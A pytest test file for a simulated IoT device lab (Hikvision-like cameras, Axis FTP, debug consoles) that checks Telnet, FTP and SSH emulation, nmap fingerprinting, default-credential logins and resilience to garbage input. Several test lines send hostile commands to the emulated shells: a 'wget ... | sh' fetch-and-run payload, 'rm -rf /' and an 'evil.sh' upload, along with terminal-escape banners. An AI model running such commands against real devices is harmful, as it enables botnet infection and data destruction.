"""Telnet, FTP, SSH and debug-console personalities of the lab, checked on the wire.

nmap identifies the three services (and the SSH product and version) the way discovery
will; Python's ftplib and asyncssh's client log in; ncat and raw sockets check what a
client cannot see through a library: Telnet negotiation, byte-exact hostile banners and that
garbage does not take a device down.
"""
# ruff: noqa: S321
# (FTP is the protocol under test; the lab only listens on loopback.)

from __future__ import annotations

import asyncio
import contextlib
import errno
import ftplib
import socket
import subprocess
import time
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import asyncssh
import pytest

from fleetwarden.adapters.lab.protocols.base import MAX_LINE, read_line, wire
from fleetwarden.domain.lab import Credential, LabDevice, Service, Weakness
from tests.integration.lab.harness import client_tool, lab_port, make_device, running_lab

TELNET, FTP, SSH = lab_port(23), lab_port(21), lab_port(22)
LONG = "X" * 5000
HOSTILE_TELNET = f"\x1b[2J\x1b[31mWARNING\x1b[0m \x1b]0;owned\x07 DS-2CD2143G2-I {LONG}"
HOSTILE_FTP = f"220 DS-2CD2143G2-I {LONG}"


def _camera(*, persona: dict[str, str] | None = None,
            services: Sequence[Service] = (Service.TELNET, Service.FTP, Service.SSH),
            weaknesses: Sequence[Weakness] = (), **fields: Any) -> LabDevice:
    """A Hikvision-like camera with Telnet, FTP and SSH open and default credentials."""
    base = {"telnet_banner": "DS-2CD2143G2-I login console", "telnet_prompt": "login: ",
            "ftp_banner": "220 DS-2CD2143G2-I FTP server ready.",
            "ssh_version": "SSH-2.0-dropbear_2019.78"}
    creds = [Credential(service, "root", "12345")
             for service in (Service.TELNET, Service.FTP, Service.SSH)]
    return make_device(services, persona={**base, **(persona or {})}, credentials=creds,
                       weaknesses=[Weakness.DEFAULT_CREDENTIALS, *weaknesses], **fields)


# ------------------------------------------------------------------ raw socket helpers
def _strip_iac(data: bytes) -> bytes:
    """Telnet data without its 3-byte option negotiations (all this server sends)."""
    out, i = bytearray(), 0
    while i < len(data):
        if data[i] == 0xFF and i + 2 < len(data) and data[i + 1] in range(251, 255):
            i += 3
        else:
            out.append(data[i])
            i += 1
    return bytes(out)


def _until(sock: socket.socket, marker: bytes, timeout: float = 5.0) -> bytes:
    """Everything received until ``marker`` shows up (or EOF / timeout)."""
    got, deadline = b"", time.monotonic() + timeout
    while marker not in got and time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            break
        if not chunk:
            break
        got += chunk
    return got


def _closed(sock: socket.socket, timeout: float = 5.0) -> bool:
    """True when the peer closes the connection (anything still sent is drained)."""
    sock.settimeout(timeout)
    try:
        while sock.recv(65536):
            pass
    except TimeoutError:
        return False
    except ConnectionError:
        return True
    return True


def _telnet_login(sock: socket.socket, user: bytes, password: bytes) -> bytes:
    _until(sock, b"login: ")
    sock.sendall(user + b"\r\n")
    _until(sock, b"Password: ")
    sock.sendall(password + b"\r\n")
    return _until(sock, b"# ", timeout=2.0)


# ----------------------------------------------------------------------------- nmap
def _nmap_services(nmap: str, *ips: str) -> dict[tuple[str, int], dict[str, str]]:
    """(ip, port) -> nmap's <service> attributes, from ``nmap -sT -sV -oX -``."""
    done = subprocess.run(
        [nmap, "-sT", "-sV", "-Pn", "-n", "-p", f"{FTP},{SSH},{TELNET}", *ips, "-oX", "-"],
        capture_output=True, text=True, timeout=60, check=True)
    found = {}
    for host in ET.fromstring(done.stdout).iter("host"):  # noqa: S314 - our own nmap run
        address = host.find("address")
        assert address is not None
        for port in host.iter("port"):
            state, service = port.find("state"), port.find("service")
            if state is not None and state.get("state") == "open" and service is not None:
                found[address.get("addr", ""), int(port.get("portid", 0))] = service.attrib
    return found


def test_nmap_identifies_telnet_ftp_and_ssh_products(tmp_path: Path):
    # Personas nmap knows outright (BusyBox telnetd without an issue banner, Axis ftpd);
    # banners it only half-recognises cost some 30 s of extra probes per service.
    nmap = client_tool("nmap")
    camera = _camera(services=[Service.TELNET, Service.SSH],
                     persona={"telnet_banner": "", "telnet_prompt": "hq-cam-0001 login: "})
    axis = _camera(serial="ACCC8E000002", hostname="hq-cam-0002",
                   services=[Service.FTP, Service.SSH],
                   persona={"ssh_version": "SSH-2.0-OpenSSH_7.9p1",
                            "ftp_banner": "220 AXIS P3245-LVE Network Camera 10.12.1 "
                                          "(hq-cam-0002) ready."})
    with running_lab([camera, axis], tmp_path):
        found = _nmap_services(nmap, camera.ip, axis.ip)
    assert found[camera.ip, TELNET]["name"] == "telnet"
    assert found[camera.ip, TELNET].get("product") == "BusyBox telnetd"
    assert found[camera.ip, TELNET].get("hostname") == "hq-cam-0001"
    assert found[camera.ip, SSH]["name"] == "ssh"
    assert "dropbear" in found[camera.ip, SSH].get("product", "").lower()
    assert found[camera.ip, SSH].get("version") == "2019.78"
    assert found[axis.ip, FTP]["name"] == "ftp"
    assert "P3245-LVE" in found[axis.ip, FTP].get("product", "")
    assert found[axis.ip, SSH].get("product") == "OpenSSH"
    assert found[axis.ip, SSH].get("version") == "7.9p1"


# --------------------------------------------------------------------------- telnet
def test_telnet_default_credentials_open_a_pretend_busybox_shell(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path), socket.create_connection((device.ip, TELNET), 5) as s:
        greeting = _until(s, b"login: ")
        # BusyBox telnetd's opening: DO ECHO, DO NAWS, WILL ECHO, WILL SGA.
        assert greeting.startswith(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03")
        assert _strip_iac(greeting) == b"DS-2CD2143G2-I login console\r\nlogin: "
        # A real client answers: WILL NAWS (asked for) plus its size, WILL TTYPE (declined).
        s.sendall(b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfb\x18" + b"root\r\n")
        answer = _until(s, b"Password: ")
        assert answer == b"\xff\xfe\x18root\r\nPassword: "
        s.sendall(b"12345\r\x00")  # CR NUL, as RFC 854 clients end a line
        assert _until(s, b"# ").endswith(b"# ")
        s.sendall(b"uname -a\r\n")
        assert b"Linux hq-cam-0001 " in _until(s, b"GNU/Linux")
        s.sendall(b"busybox\r\n")
        assert b"BusyBox v1.19.4" in _until(s, b"Usage")
        s.sendall(b"rm -rf /\r\n")
        assert b"sh: rm: not found" in _until(s, b"not found")
        s.sendall(b"exit\r\n")
        assert _closed(s)


def test_telnet_wrong_password_is_refused_three_times_then_closed(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path), socket.create_connection((device.ip, TELNET), 5) as s:
        seen = b""
        for password in (b"wrong", b"admin", b"123456"):
            seen += _until(s, b"login: ")
            s.sendall(b"root\r\n")
            seen += _until(s, b"Password: ")
            s.sendall(password + b"\r\n")
        seen += _until(s, b"Login incorrect\r\n")
        assert seen.count(b"Login incorrect") == 3 and b"# " not in seen
        assert _closed(s)


def test_telnet_enter_at_the_login_prompt_shows_it_again(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path) as lab:
        with socket.create_connection((device.ip, TELNET), 5) as s:
            _until(s, b"login: ")
            s.sendall(b"\r\n")
            assert _until(s, b"login: ") == b"\r\nlogin: "  # no Password:, no failed attempt
            s.sendall(b"  \r\n")
            assert _until(s, b"login: ") == b"  \r\nlogin: "  # echoed, then the prompt
            s.sendall(b"root\r\n")
            assert _until(s, b"Password: ").endswith(b"root\r\nPassword: ")
            s.sendall(b"12345\r\n")
            assert _until(s, b"# ").endswith(b"# ")  # the blank lines cost no attempt
        with socket.create_connection((device.ip, TELNET), 5) as s:
            _until(s, b"login: ")
            s.sendall(b"\r\n" * 10)  # like BusyBox login, ten empty names end the session
            assert _closed(s)
        assert lab.stats.handler_errors == 0


def test_telnet_banner_can_be_the_prompt_and_hostile_banners_are_byte_exact(tmp_path: Path):
    apc = _camera(persona={"telnet_banner": "User Name : ", "telnet_prompt": ""}, components=())
    hostile = _camera(serial="DS-TEST-0003", persona={"telnet_banner": HOSTILE_TELNET},
                      weaknesses=[Weakness.HOSTILE_BANNER])
    with running_lab([apc, hostile], tmp_path):
        with socket.create_connection((apc.ip, TELNET), 5) as s:
            shown = _until(s, b"User Name : ")
            assert shown == b"\xff\xfb\x01\xff\xfb\x03User Name : "  # no BusyBox here
            assert b"login" not in _until(s, b"x", 0.3)
            s.sendall(b"root\r\n")
            _until(s, b"Password: ")
            s.sendall(b"12345\r\n")
            assert b"# " in _until(s, b"# ")
        with socket.create_connection((hostile.ip, TELNET), 5) as s:
            raw = _until(s, b"login: ")
            assert wire(HOSTILE_TELNET) + b"\r\nlogin: " in raw


# ------------------------------------------------------------------------------ ftp
def test_ftp_login_pasv_list_and_retr_with_ftplib(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path), ftplib.FTP() as ftp:
        ftp.connect(device.ip, FTP, timeout=5)
        assert ftp.getwelcome() == "220 DS-2CD2143G2-I FTP server ready."
        with pytest.raises(ftplib.error_perm, match="^530"):
            ftp.sendcmd("PWD")
        ftp.login("root", "12345")
        assert ftp.sendcmd("SYST") == "215 UNIX Type: L8"
        assert ftp.pwd() == "/"
        assert "PASV" in ftp.sendcmd("FEAT")
        names = ftp.nlst()
        assert "config_backup.cfg" in names and any(n.endswith(".bin") for n in names)
        listing: list[str] = []
        ftp.retrlines("LIST", listing.append)
        assert len(listing) == len(names) and listing[0].startswith("-rw-r--r--")
        chunks: list[bytes] = []
        ftp.retrbinary("RETR config_backup.cfg", chunks.append)
        backup = b"".join(chunks)
        assert b"hostname=hq-cam-0001" in backup and wire(device.secret) not in backup
        with pytest.raises(ftplib.error_perm, match="^550"):
            ftp.retrbinary(f"RETR {names[-1]}", chunks.append)
        with pytest.raises(ftplib.error_perm, match="^550"):
            ftp.storbinary("STOR evil.sh", _OneShot(b"#!/bin/sh\n"))
        with pytest.raises(ftplib.error_perm, match="^502"):
            ftp.sendcmd("PORT 127,0,0,1,4,1")
        _epsv_nlst(ftp, device.ip)
        assert ftp.quit().startswith("221")


class _OneShot:
    """A file-like object ftplib can upload from (the device refuses before reading)."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def read(self, size: int = -1) -> bytes:
        data, self.data = self.data, b""
        return data


def _epsv_nlst(ftp: ftplib.FTP, ip: str) -> None:
    reply = ftp.sendcmd("EPSV")
    assert reply.startswith("229 ")
    _, port = ftplib.parse229(reply, (ip, FTP))
    with socket.create_connection((ip, port), 5) as data:
        assert ftp.sendcmd("NLST").startswith("150")
        assert b"config_backup.cfg" in _until(data, b"\n")
    assert ftp.voidresp().startswith("226")


def test_ftp_wrong_password_and_anonymous_get_530(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path):
        for user, password in (("root", "wrong"), ("anonymous", "guest@example.com")):
            with ftplib.FTP() as ftp:
                ftp.connect(device.ip, FTP, timeout=5)
                with pytest.raises(ftplib.error_perm, match="^530"):
                    ftp.login(user, password)


def test_ftp_blank_line_gets_500_and_the_session_goes_on(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path) as lab, ftplib.FTP() as ftp:
        ftp.connect(device.ip, FTP, timeout=5)
        with pytest.raises(ftplib.error_perm, match="^500"):
            ftp.sendcmd("")
        assert ftp.login("root", "12345").startswith("230")
        with pytest.raises(ftplib.error_perm, match="^500"):
            ftp.sendcmd("")
        assert ftp.sendcmd("NOOP").startswith("200")
        assert lab.stats.handler_errors == 0


class _NamespaceSockets:
    """Stands in for ``LabNamespaces.socket``: a bound, listening loopback socket, and a
    record of what was asked for; ``fail`` makes it raise like a bind in a broken netns."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, str, int]] = []
        self.fail = False

    def __call__(self, device: LabDevice, transport: str, port: int) -> socket.socket:
        self.calls.append((device.ip, transport, port))
        if self.fail:
            raise OSError(errno.EADDRNOTAVAIL, "Cannot assign requested address")
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind((device.ip, port))
            sock.listen(64)
            sock.setblocking(False)
        except BaseException:
            sock.close()
            raise
        return sock


def test_ftp_passive_listener_is_made_through_the_labs_namespace_sockets(tmp_path: Path):
    device = _camera()
    sockets = _NamespaceSockets()
    with running_lab([device], tmp_path) as lab, ftplib.FTP() as ftp:
        lab.lab.sockets = sockets  # as with --netns (the services are already bound)
        ftp.connect(device.ip, FTP, timeout=5)
        ftp.login("root", "12345")
        assert "config_backup.cfg" in ftp.nlst()
        _epsv_nlst(ftp, device.ip)
        assert sockets.calls == [(device.ip, "tcp", 0)] * 2
        sockets.fail = True
        with pytest.raises(ftplib.error_temp, match="^425 Can't open data connection"):
            ftp.sendcmd("PASV")
        with pytest.raises(ftplib.error_temp, match="^425"):
            ftp.sendcmd("NLST")  # no listener was left behind to use
        assert ftp.sendcmd("NOOP").startswith("200")
        assert lab.stats.handler_errors == 0


def test_ftp_hostile_banner_is_sent_byte_exact(tmp_path: Path):
    ncat = client_tool("ncat")
    device = _camera(persona={"ftp_banner": HOSTILE_FTP}, weaknesses=[Weakness.HOSTILE_BANNER])
    with running_lab([device], tmp_path):
        done = subprocess.run([ncat, "--recv-only", "-i", "500ms", device.ip, str(FTP)],
                              capture_output=True, timeout=10, check=False)
    assert done.stdout == wire(HOSTILE_FTP) + b"\r\n"


# ------------------------------------------------------------------------------ ssh
async def _ssh_run(ip: str, password: str, command: str) -> asyncssh.SSHCompletedProcess:
    async with asyncssh.connect(ip, SSH, username="root", password=password,
                                known_hosts=None, client_keys=None,
                                connect_timeout=5) as conn:
        assert conn.get_extra_info("server_version") == "SSH-2.0-dropbear_2019.78"
        return await conn.run(command, timeout=5)


async def _ssh_shell(ip: str) -> str:
    async with asyncssh.connect(ip, SSH, username="root", password="12345",
                                known_hosts=None, client_keys=None, connect_timeout=5) as conn:
        result = await conn.run(input="uname -a\nbusybox\nexit\n", timeout=5)
        return str(result.stdout)


def test_ssh_password_login_gets_answers_and_wrong_password_is_refused(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path):
        result = asyncio.run(_ssh_run(device.ip, "12345", "cat /proc/version"))
        assert result.exit_status == 0 and str(result.stdout).startswith("Linux version ")
        result = asyncio.run(_ssh_run(device.ip, "12345", "busybox; wget http://x/m -O- | sh"))
        assert result.exit_status == 127 and "sh: wget: not found" in str(result.stdout)
        assert str(result.stdout).startswith("BusyBox v1.19.4 ")
        shell = asyncio.run(_ssh_shell(device.ip))
        assert "Linux hq-cam-0001" in shell and "BusyBox v1.19.4" in shell
        with pytest.raises(asyncssh.PermissionDenied):
            asyncio.run(_ssh_run(device.ip, "wrong", "id"))


async def _fingerprint(ip: str) -> str:
    key = await asyncssh.get_server_host_key(ip, SSH)
    assert key is not None and key.get_algorithm() == "ssh-ed25519"
    return key.get_fingerprint()


def test_an_open_ssh_connection_is_closed_when_the_lab_stops(tmp_path: Path):
    device = _camera(services=[Service.SSH])

    async def scenario(stop_lab: contextlib.ExitStack) -> None:
        async with asyncssh.connect(device.ip, SSH, username="root", password="12345",
                                    known_hosts=None, client_keys=None,
                                    connect_timeout=5) as conn:
            process = await conn.create_process(term_type="vt100")
            await process.stdout.readuntil("# ")
            await asyncio.to_thread(stop_lab.close)
            await asyncio.wait_for(conn.wait_closed(), 5)  # not left for the idle timeouts

    with contextlib.ExitStack() as stack:
        stack.enter_context(running_lab([device], tmp_path))
        asyncio.run(scenario(stack))


def test_ssh_host_key_is_stable_across_lab_starts(tmp_path: Path):
    device, other = _camera(), _camera(serial="DS-TEST-0009")
    prints = []
    for run in range(2):
        with running_lab([device, other], tmp_path / str(run)):
            prints.append((asyncio.run(_fingerprint(device.ip)),
                           asyncio.run(_fingerprint(other.ip))))
    assert prints[0] == prints[1]
    assert prints[0][0] != prints[0][1]


def test_ssh_for_200_devices_starts_quickly(tmp_path: Path):
    devices = [make_device([Service.SSH], serial=f"DS-BULK-{n:04d}") for n in range(200)]
    with running_lab(devices, tmp_path) as lab:
        assert lab.stats.started_in < 5.0, lab.stats.started_in
        fingerprints = {asyncio.run(_fingerprint(d.ip)) for d in devices[:3]}
    assert len(fingerprints) == 3


# -------------------------------------------------------------------------- garbage
GARBAGE = [
    b"\xff" * 3000,  # an IAC storm
    b"\xff\xfa" + b"A" * 20000,  # an unterminated subnegotiation
    b"\x00\x01\x02\x1b[31m" * 2000 + b"\r\n",
    b"Z" * 20000,  # one line far over the limit
    b"GET / HTTP/1.0\r\n\r\n",
    b"SSH-2.0-\xff\xfe\r\n" + bytes(range(256)) * 8,
]


def _throw(ip: str, port: int, payload: bytes) -> None:
    with socket.create_connection((ip, port), 5) as s:
        try:
            s.sendall(payload)
            s.shutdown(socket.SHUT_WR)
        except OSError:
            return  # the device hung up first: fine
        _closed(s, timeout=5.0)


def test_garbage_does_not_take_a_device_down(tmp_path: Path):
    device = _camera()
    with running_lab([device], tmp_path) as lab:
        for port in (TELNET, FTP, SSH):
            for payload in GARBAGE:
                _throw(device.ip, port, payload)
        with socket.create_connection((device.ip, TELNET), 5) as s:
            assert _telnet_login(s, b"root", b"12345").endswith(b"# ")
        with ftplib.FTP() as ftp:
            ftp.connect(device.ip, FTP, timeout=5)
            assert ftp.login("root", "12345").startswith("230")
        result = asyncio.run(_ssh_run(device.ip, "12345", "uname"))
        assert str(result.stdout) == "Linux\n"
        assert lab.stats.handler_errors == 0


# -------------------------------------------------------------------- debug console
def test_read_line_tells_a_blank_line_from_the_end():
    async def lines(data: bytes, *, eof: bool = True, timeout: float = 1.0
                    ) -> list[bytes | None]:
        reader = asyncio.StreamReader(limit=MAX_LINE * 2)
        reader.feed_data(data)
        if eof:
            reader.feed_eof()
        return [await read_line(reader, timeout=timeout) for _ in range(3)]

    assert asyncio.run(lines(b"\r\nabc\n")) == [b"", b"abc", None]
    assert asyncio.run(lines(b"\n\n")) == [b"", b"", None]
    assert asyncio.run(lines(b"x" * MAX_LINE + b"\r\n")) == [b"x" * MAX_LINE, None, None]
    assert asyncio.run(lines(b"x" * (MAX_LINE + 1) + b"\n"))[0] is None  # over-long
    assert asyncio.run(lines(b"partial", eof=False, timeout=0.1)) == [None] * 3  # silence


def test_debug_console_answers_enter_and_commands_at_its_own_prompt(tmp_path: Path):
    setup = make_device([Service.DEBUG], model="NPAD", persona={
        "debug_banner": "*** Acme NPAD ***\r\nPress Enter for Setup Mode\r\n",
        "debug_port": "9999"})
    xmsh = make_device([Service.DEBUG], model="DH-X", firmware_version="2.8", persona={
        "debug_banner": "DH-X debug console\r\nxmsh> ", "debug_port": "9527"})
    with running_lab([setup, xmsh], tmp_path) as lab:
        with socket.create_connection((setup.ip, lab_port(9999)), 5) as s:
            assert _until(s, b"Setup Mode\r\n").endswith(b"Press Enter for Setup Mode\r\n")
            s.sendall(b"\r\n")
            assert _until(s, b"# ") == b"# "  # Enter: the prompt, not a hang-up
            s.sendall(b"\n")
            assert _until(s, b"# ") == b"# "
            s.sendall(b"version\r\n")
            assert _until(s, b"# ") == b"NPAD V5.7.3 build 220112\r\n# "
            s.sendall(b"exit\r\n")
            assert _until(s, b"bye") == b"bye\r\n" and _closed(s)
        with socket.create_connection((xmsh.ip, lab_port(9527)), 5) as s:
            assert _until(s, b"xmsh> ") == b"DH-X debug console\r\nxmsh> "
            s.sendall(b"\r\n")
            assert _until(s, b"xmsh> ") == b"xmsh> "
            s.sendall(b"help\r\n")
            assert _until(s, b"xmsh> ") == b"commands: help version exit\r\nxmsh> "
            s.sendall(b"rm -rf /\r\n")
            assert _until(s, b"xmsh> ") == b"unknown command\r\nxmsh> "
        assert lab.stats.handler_errors == 0
